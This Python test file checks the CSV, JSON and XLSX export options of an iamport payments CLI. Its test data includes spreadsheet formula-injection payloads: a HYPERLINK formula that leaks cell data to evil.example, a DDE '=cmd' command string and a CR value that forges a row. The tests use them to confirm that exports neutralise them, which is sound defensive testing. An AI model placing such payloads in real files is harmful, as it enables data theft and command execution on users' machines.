"""``iamport payments list`` exports are safe and useful (issue 19, item 2)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from iamport_client._resources import Payments
from iamport_sandbox import Sandbox
from iamport_sandbox.models import OrderInfo
from iamport_sandbox.resources import CardInput
from tests.support import fake_iamport
from tests.support.fake_iamport import FakeIamport, Reply, envelope, payment

from ._cli import invoke, page

KST = timezone(timedelta(hours=9))
CARD = CardInput(digits="4242424242424242", expiry="2030-12", birth="900101")
LIST = "/payments/status/paid"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    'plain, "quoted"\rforged,row',
]


def rows_of(names: list[str]) -> list[dict[str, Any]]:
    return [
        payment(f"imp_{i:012d}", merchant_uid=f"order_{i}", name=name, paid_at=1764554400 + i)
        for i, name in enumerate(names)
    ]


def test_csv_neutralises_formulas_quotes_everything_and_ends_lines_with_crlf(
    fake: FakeIamport,
) -> None:
    fake.script("GET", LIST, page(rows_of(HOSTILE), len(HOSTILE), 0))
    result = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv"])
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes.decode("utf-8")
    assert raw.endswith("\r\n")
    assert not raw.startswith("\ufeff")
    records = raw.split("\r\n")[:-1]
    assert len(records) == len(HOSTILE) + 1  # the bare CR inside a name forged no row
    assert all(r.startswith('"') and r.endswith('"') for r in records)  # every cell quoted
    parsed = list(csv.DictReader(io.StringIO(raw, newline="")))
    names = [r["name"] for r in parsed]
    for name, original in zip(names, HOSTILE, strict=True):
        assert name[0] not in "=+-@\t\r", name
        assert name in (original, "'" + original)
    assert names[0] == "'" + HOSTILE[0]
    assert names[-1] == HOSTILE[-1]
    assert [r["amount"] for r in parsed] == ["64900"] * len(HOSTILE)  # numbers stay numbers


def test_excel_flag_adds_a_byte_order_mark(fake: FakeIamport) -> None:
    fake.script("GET", LIST, page(rows_of(["월간 이용권"]), 1, 0))
    result = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv", "--excel"]
    )
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(b'\xef\xbb\xbf"imp_uid"')
    assert "월간 이용권".encode() in result.stdout_bytes


def test_json_and_jsonl_write_decimal_money_exactly(fake: FakeIamport) -> None:
    body = (
        b'{"code":0,"message":null,"response":{"total":2,"previous":0,"next":0,"list":['
        b'{"imp_uid":"imp_000000000001","merchant_uid":"a","amount":10.50,"cancel_amount":0.10,'
        b'"currency":"USD","status":"paid","paid_at":1764554400},'
        b'{"imp_uid":"imp_000000000002","merchant_uid":"b","amount":12900,"cancel_amount":0,'
        b'"currency":"KRW","status":"paid","paid_at":1764554401}]}}'
    )
    fake.script("GET", LIST, Reply(200, body), Reply(200, body))
    as_json = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "json"])
    assert as_json.exit_code == 0, as_json.output
    decoded = json.loads(as_json.stdout, parse_float=Decimal)
    assert decoded[0]["amount"] == Decimal("10.50") and "10.50" in as_json.stdout
    assert decoded[0]["cancel_amount"] == Decimal("0.10")
    assert decoded[1]["amount"] == 12900 and isinstance(decoded[1]["amount"], int)
    lines = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "jsonl"])
    assert lines.exit_code == 0, lines.output
    parsed = [json.loads(line, parse_float=Decimal) for line in lines.stdout.splitlines()]
    assert [p["amount"] for p in parsed] == [Decimal("10.50"), 12900]


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "jsonl", "xlsx"])
def test_absurd_amounts_and_times_never_give_a_traceback(
    fake: FakeIamport, fmt: str, tmp_path: Path
) -> None:
    body = (
        b'{"code":0,"message":null,"response":{"total":2,"previous":0,"next":0,"list":['
        b'{"imp_uid":"imp_000000000001","merchant_uid":"a","amount":123456789012345678901234567890,'
        b'"cancel_amount":0,"currency":"KRW","status":"paid","paid_at":100000000000000000000,'
        b'"cancelled_at":-99999999999999999999},'
        b'{"imp_uid":"imp_000000000002","merchant_uid":"b","amount":1.5e-30,"cancel_amount":0,'
        b'"currency":"KRW","status":"paid","paid_at":1764554400}]}}'
    )
    fake.script("GET", LIST, Reply(200, body))
    out = tmp_path / f"out.{fmt}"
    result = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", fmt, "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    data = out.read_bytes()
    if fmt != "xlsx":
        text = data.decode()
        assert "123456789012345678901234567890" in text
        assert "100000000000000000000" in text
    else:
        sheet = load_workbook(out).active
        assert sheet["D2"].value == "123456789012345678901234567890"  # text, not a rounded float
        assert sheet["K2"].value == "100000000000000000000"


def test_an_out_of_range_money_field_is_a_clean_refusal(fake: FakeIamport, tmp_path: Path) -> None:
    """Money is core (strict): ``1e400`` is refused with the spec's words, never a traceback."""
    body = (
        b'{"code":0,"message":null,"response":{"total":1,"previous":0,"next":0,"list":['
        b'{"imp_uid":"imp_000000000001","merchant_uid":"a","amount":1000,'
        b'"cancel_amount":1e400,"currency":"KRW","status":"paid","paid_at":1764554400}]}}'
    )
    fake.script("GET", LIST, Reply(200, body))
    result = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv"])
    assert result.exit_code == 1
    assert isinstance(result.exception, SystemExit)
    assert "cancel_amount" in result.output
    assert "Traceback" not in result.output


def test_xlsx_has_numbers_kst_times_and_text_never_formulas(
    fake: FakeIamport, tmp_path: Path
) -> None:
    fake.script("GET", LIST, page(rows_of(HOSTILE), len(HOSTILE), 0))
    out = tmp_path / "november.xlsx"
    result = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "xlsx", "-o", str(out)]
    )
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["imp_uid", "merchant_uid", "status", "amount"]
    assert header[10] == "paid_at (KST)"
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(HOSTILE)
    for row, name in zip(rows, HOSTILE, strict=True):
        amount, named, paid_at = row[3], row[8], row[10]
        assert amount.data_type == "n" and amount.value == 64900
        assert named.data_type == "s" and named.value == name.replace(
            "\r", "\n"
        )  # XML reads a CR as LF
        assert paid_at.is_date
    first_paid = rows[0][10].value
    assert first_paid == datetime.fromtimestamp(1764554400, KST).replace(tzinfo=None)
    assert first_paid.hour == 11  # 02:00 UTC is 11:00 in Seoul


def test_output_file_is_written_atomically(fake: FakeIamport, tmp_path: Path) -> None:
    out = tmp_path / "payments.csv"
    out.write_text("yesterday's export\n")
    items = rows_of(["a", "b"])
    fake.script(
        "GET",
        LIST,
        page(items[:1], 2, 2),
        Reply(404, envelope(None, -1, "존재하지 않는 결제정보입니다")),
    )
    failed = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv", "-o", str(out)]
    )
    assert failed.exit_code == 4, failed.output
    assert out.read_text() == "yesterday's export\n"  # untouched by the half-done export
    assert [p.name for p in tmp_path.iterdir()] == ["payments.csv"]  # no temporary left
    fake.script("GET", LIST, page(items, 2, 0))
    done = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv", "-o", str(out)]
    )
    assert done.exit_code == 0, done.output
    assert done.stdout == ""
    assert len(list(csv.reader(io.StringIO(out.read_text(), newline="")))) == 3
    assert [p.name for p in tmp_path.iterdir()] == ["payments.csv"]


def test_a_server_repeating_its_pages_does_not_loop(fake: FakeIamport) -> None:
    items = rows_of(["a", "b"])
    fake.script("GET", LIST, *[page(items, 100, n + 2) for n in range(200)])
    result = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "jsonl"])
    assert result.exit_code == 1
    assert "twice" in result.stderr
    assert fake.count("GET", LIST) == 2
    fake.reset()
    # pages that differ but never end: stop at the total the service announced
    fake.script(
        "GET",
        LIST,
        *[page([payment(f"imp_{n:06d}{k:06d}") for k in range(2)], 4, n + 2) for n in range(200)],
    )
    capped = invoke(fake.base_url, ["payments", "list", "--status", "paid", "--format", "jsonl"])
    assert capped.exit_code == 0, capped.output
    assert len(capped.stdout.splitlines()) == 4
    assert fake.count("GET", LIST) == 2


def test_windows_over_90_days_are_split_and_merged(sandbox: Sandbox) -> None:
    start = datetime(2026, 1, 1, tzinfo=KST)
    sandbox.clock.set(start.timestamp())
    sandbox.clock.freeze()
    expected = []
    for day in range(0, 200, 3):  # a payment every 3 days over 200 days
        sandbox.clock.set((start + timedelta(days=day, hours=12)).timestamp())
        order = OrderInfo(name=f"day {day}", buyer_name="홍길동")
        expected.append(
            sandbox.state.pay_onetime(CARD, f"order_{day:03d}", Decimal(1000 + day), order)[
                "merchant_uid"
            ]
        )
    args = ["payments", "list", "--status", "paid", "--from", "2026-01-01", "--to", "2026-07-31"]
    newest = invoke(sandbox.base_url, [*args, "--format", "jsonl", "--page-size", "7"])
    assert newest.exit_code == 0, newest.output
    got = [json.loads(line)["merchant_uid"] for line in newest.stdout.splitlines()]
    assert got == expected[::-1]
    oldest = invoke(sandbox.base_url, [*args, "--format", "jsonl", "--sorting", "started"])
    assert [json.loads(line)["merchant_uid"] for line in oldest.stdout.splitlines()] == expected


def test_progress_is_a_summary_line_off_a_terminal(fake: FakeIamport) -> None:
    fake.script("GET", LIST, page(rows_of(["a", "b", "c"]), 3, 0))
    result = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv", "--progress"]
    )
    assert result.exit_code == 0
    assert result.stderr == "payments: 3 exported\n"
    fake.script("GET", LIST, page(rows_of(["a"]), 1, 0))
    quiet = invoke(
        fake.base_url, ["payments", "list", "--status", "paid", "--format", "csv", "--no-progress"]
    )
    assert quiet.stderr == ""


def test_progress_bar_on_a_terminal(fake: FakeIamport) -> None:
    import pty

    fake.script("GET", LIST, page(rows_of(["a", "b", "c"]), 3, 0))
    leader, follower = pty.openpty()
    env = {k: v for k, v in os.environ.items() if not k.startswith("IAMPORT_")}
    env |= {
        "IAMPORT_API_KEY": fake_iamport.API_KEY,
        "IAMPORT_API_SECRET": fake_iamport.API_SECRET,
        "IAMPORT_BASE_URL": fake.base_url,
        "HOME": "/nonexistent",
        "COLUMNS": "80",
    }
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "iamport_client._cli_entry",
            "payments",
            "list",
            "--status",
            "paid",
            "--format",
            "csv",
        ],
        stdout=subprocess.PIPE,
        stderr=follower,
        env=env,
        timeout=60,
        check=False,
    )
    os.close(follower)
    shown = b""
    while True:
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        shown += chunk
    os.close(leader)
    assert proc.returncode == 0
    assert b"3/3" in shown and b"payments" in shown
    assert b"exported" not in shown  # the bar, not the summary line
    assert proc.stdout.count(b"\r\n") == 4


def test_concurrency_reaches_the_librarys_iterator_when_it_takes_it(
    fake: FakeIamport, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[dict[str, Any]] = []

    def iter_by_status(self: Payments, payment_status: str, *, concurrency: int = 1, **kw: Any):  # type: ignore[no-untyped-def]
        seen.append({"status": payment_status, "concurrency": concurrency, **kw})
        return iter(())

    monkeypatch.setattr(Payments, "iter_by_status", iter_by_status)
    result = invoke(
        fake.base_url,
        ["payments", "list", "--status", "paid", "--concurrency", "4", "--format", "json"],
    )
    assert result.exit_code == 0, result.output
    assert seen and seen[0]["concurrency"] == 4 and seen[0]["status"] == "paid"


def test_concurrency_without_library_support_still_exports(
    fake: FakeIamport, monkeypatch: pytest.MonkeyPatch
) -> None:
    def iter_by_status(self: Payments, payment_status: str, *, limit: int | None = None, **kw: Any):  # type: ignore[no-untyped-def]
        raise AssertionError("not called without a concurrency argument")

    monkeypatch.setattr(Payments, "iter_by_status", iter_by_status)
    iter_by_status.__signature__ = __import__("inspect").Signature(  # type: ignore[attr-defined]
        [
            __import__("inspect").Parameter(
                "self", __import__("inspect").Parameter.POSITIONAL_ONLY
            ),
            __import__("inspect").Parameter(
                "payment_status", __import__("inspect").Parameter.POSITIONAL_ONLY
            ),
        ]
    )
    fake.script("GET", LIST, page(rows_of(["a", "b"]), 2, 0))
    result = invoke(
        fake.base_url,
        ["payments", "list", "--status", "paid", "--concurrency", "4", "--format", "jsonl"],
    )
    assert result.exit_code == 0, result.output
    assert len(result.stdout.splitlines()) == 2
    assert "--concurrency ignored" in result.stderr


def test_rows_stream_out_before_the_last_page_arrives(fake: FakeIamport, tmp_path: Path) -> None:
    fake.script(
        "GET",
        LIST,
        page(rows_of(["first"]), 2, 2),
        Reply(
            200,
            envelope({"total": 2, "previous": 1, "next": 0, "list": [payment("imp_999999999999")]}),
            delay=4,
        ),
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith("IAMPORT_")}
    env |= {
        "IAMPORT_API_KEY": fake_iamport.API_KEY,
        "IAMPORT_API_SECRET": fake_iamport.API_SECRET,
        "IAMPORT_BASE_URL": fake.base_url,
        "HOME": "/nonexistent",
    }
    started = time.monotonic()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "iamport_client._cli_entry",
            "payments",
            "list",
            "--status",
            "paid",
            "--format",
            "jsonl",
            "--page-size",
            "1",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None
    line = proc.stdout.readline()
    waited = time.monotonic() - started
    still_running = proc.poll() is None
    rest, errors = proc.communicate(timeout=60)
    assert json.loads(line)["name"] == "first"
    # written while page 2 was still on its way (it takes 9 s; starting takes a few)
    assert still_running and waited < 8.5
    assert len(rest.splitlines()) == 1, errors


def test_an_unwritable_output_is_a_clear_error(fake: FakeIamport, tmp_path: Path) -> None:
    missing = invoke(
        fake.base_url,
        ["payments", "list", "--format", "csv", "-o", str(tmp_path / "nope" / "x.csv")],
    )
    assert missing.exit_code == 2
    assert "cannot write" in missing.stderr
    assert fake.count() == 0  # checked before anything was asked


def test_a_closed_pipe_ends_the_export_quietly(fake: FakeIamport) -> None:
    items = [payment(f"imp_{i:012d}") for i in range(1000)]
    fake.script("GET", LIST, page(items, 1000, 0))
    env = {k: v for k, v in os.environ.items() if not k.startswith("IAMPORT_")}
    env |= {
        "IAMPORT_API_KEY": fake_iamport.API_KEY,
        "IAMPORT_API_SECRET": fake_iamport.API_SECRET,
        "IAMPORT_BASE_URL": fake.base_url,
        "HOME": "/nonexistent",
    }
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "iamport_client._cli_entry",
            "payments",
            "list",
            "--status",
            "paid",
            "--format",
            "jsonl",
            "--page-size",
            "1000",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None and proc.stderr is not None
    proc.stdout.readline()
    proc.stdout.close()  # as `| head -1` does
    errors = proc.stderr.read()
    proc.wait(30)
    assert b"Traceback" not in errors, errors
    assert proc.returncode == 0


def test_money_and_time_columns_are_neutralised_too_when_they_are_no_numbers() -> None:
    # The library refuses such answers today; the CSV writer does not count on it.
    from iamport_client.cli import _output

    row = {"amount": "=1+2", "cancel_amount": -500, "paid_at": "=cmd|' /C calc'!A0"}
    cells = _output.sheet_cells(row, ["amount", "cancel_amount", "paid_at"])
    assert cells == ["'=1+2", "-500", "'=cmd|' /C calc'!A0"]


def test_memory_stays_flat_however_many_pages(fake: FakeIamport, tmp_path: Path) -> None:
    import tracemalloc

    def export(pages: int) -> int:
        fake.reset()
        per_page = 200
        total = pages * per_page
        fake.script(
            "GET",
            LIST,
            *[
                page(
                    [payment(f"imp_{n:06d}{k:06d}") for k in range(per_page)],
                    total,
                    n + 2 if n + 1 < pages else 0,
                )
                for n in range(pages)
            ],
        )
        tracemalloc.start()
        try:
            result = invoke(
                fake.base_url,
                [
                    "payments",
                    "list",
                    "--status",
                    "paid",
                    "--format",
                    "csv",
                    "--page-size",
                    str(per_page),
                    "-o",
                    str(tmp_path / f"{pages}.csv"),
                ],
            )
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert result.exit_code == 0, result.output
        assert (tmp_path / f"{pages}.csv").read_text().count("\n") == total + 1
        return peak

    export(1)  # imports and first-use caches are not what is measured
    few, many = export(3), export(24)
    assert many < few * 1.5, (few, many)  # eight times the rows, not eight times the memory
